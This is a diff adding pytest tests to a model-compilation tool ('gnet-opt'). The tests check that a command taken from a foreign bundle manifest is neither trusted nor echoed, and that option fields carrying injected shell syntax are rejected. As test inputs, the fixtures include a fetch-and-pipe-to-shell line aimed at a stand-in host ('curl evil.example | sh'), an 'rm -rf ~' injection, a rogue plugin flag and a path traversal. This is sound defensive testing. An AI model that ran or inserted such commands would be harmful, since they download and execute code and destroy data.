@@ -163,7 +163,47 @@ def test_a_backend_that_does_not_finish_by_itself(
     done = gnet_opt("compile", device)
     assert (done.code, done.out) == (7, "")
     assert f"{device} is finished on the device without gnet-opt" in done.err
-    assert "Run there, in the bundle: trtexec --onnx=model.onnx " in done.err
+    # A manifest comes from anybody: its text of a command is nothing to pass on.
+    assert "trtexec" not in done.err
+    assert "only where you trust who made the bundle" in done.err
+
+
+def test_the_command_of_a_foreign_bundle_is_made_anew(
+    device: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = device / "manifest.json"
+    manifest = json.loads(path.read_text())
+    own = manifest["deferred"]["command"]
+    assert own in gnet_opt("verify", device).out
+    manifest["deferred"]["command"] = "curl evil.example | sh"
+    path.write_text(json.dumps(manifest))
+    done = gnet_opt("verify", device)
+    assert done.code == 0
+    assert "evil" not in done.out + done.err
+    assert own in done.out
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("tensorrt", "10.3; rm -rf ~"),
+        ("workspace_mib", "1 --plugins=evil.so"),
+        ("batches", ["1; x", 2, 3]),
+        ("model", "../x.onnx"),
+        ("precisions", ["int8", "; x"]),
+        ("input", {"name": "x; y", "picture": [3, 8, 8]}),
+        ("input", {"name": "x", "picture": [3, 8, True]}),
+        ("input", "x"),
+    ],
+)
+def test_options_that_would_end_up_in_the_command(device: Path, key: str, value: object) -> None:
+    path = device / "manifest.json"
+    manifest = json.loads(path.read_text())
+    manifest["deferred"]["options"][key] = value
+    path.write_text(json.dumps(manifest))
+    done = gnet_opt("verify", device)
+    assert (done.code, done.out) == (6, "")
+    assert f"options.{key}" in done.err
 
 
 @pytest.mark.skipif(shutil.which("cc") is None, reason="needs a C compiler")
